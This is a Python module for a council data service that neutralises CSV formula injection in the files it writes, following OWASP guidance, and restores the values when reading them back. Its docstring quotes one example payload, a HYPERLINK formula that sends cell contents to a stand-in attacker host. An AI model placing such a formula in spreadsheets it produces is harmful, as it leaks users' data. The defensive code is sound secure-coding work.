"""The CSV files the service writes, made safe to open in a spreadsheet; and reading them back.

A results, rejects or warnings file carries values other councils typed (a register entry's reference and
names) and values from the file it answers. A spreadsheet runs a cell that starts with `=`, `+`, `-` or
`@` as a formula (and one that starts with a tab or carriage return, once trimmed), so a reference such as
`=HYPERLINK("http://evil.example/?"&A1,"Click")` would run on the officer's machine and could send the
sheet's contents away. Following OWASP's guidance on CSV injection, every file is written through
`csv_writer`: such a cell gets a leading `'`, which a spreadsheet shows as text and does not display, and
every cell is quoted, so a `;` or a line break inside one cannot start a new cell where a spreadsheet
splits on it. Numbers the service itself writes (line numbers) are left as they are.

A cell that already starts with `'` before one of those characters gets one more, so `restored` gives
back exactly what was written: the import reads a corrected rejects file as the values it came from.
"""

import csv
import io
from collections.abc import Iterable
from typing import TextIO

# OWASP, "CSV Injection": the characters a spreadsheet takes as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def neutral(cell):
    """Return a cell a spreadsheet cannot run: text that would start a formula is prefixed with a quote."""
    if isinstance(cell, str) and cell.lstrip(QUOTE).startswith(FORMULA_STARTS):
        return QUOTE + cell
    return cell


def restored(cell: str | None) -> str | None:
    """Return a cell as it was before `neutral` prefixed it (any other cell unchanged)."""
    if cell and cell.startswith(QUOTE) and cell.lstrip(QUOTE).startswith(FORMULA_STARTS):
        return cell[1:]
    return cell


class SafeWriter:
    """A csv writer whose every row is neutralised and quoted."""

    def __init__(self, stream: TextIO):
        """Write CSV rows to `stream`."""
        self._writer = csv.writer(stream, quoting=csv.QUOTE_ALL)

    def writerow(self, row: Iterable) -> None:
        """Write one row, each cell made safe."""
        self._writer.writerow([neutral(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable]) -> None:
        """Write many rows, each cell made safe."""
        for row in rows:
            self.writerow(row)


def csv_writer(stream: TextIO) -> SafeWriter:
    """Return the writer every CSV file the service writes goes through."""
    return SafeWriter(stream)


def read_back(text: str) -> list[dict]:
    """Return the rows of a CSV file the service wrote, by column name, each cell restored."""
    return [
        {restored(name): restored(value) for name, value in row.items()}
        for row in csv.DictReader(io.StringIO(text))
    ]
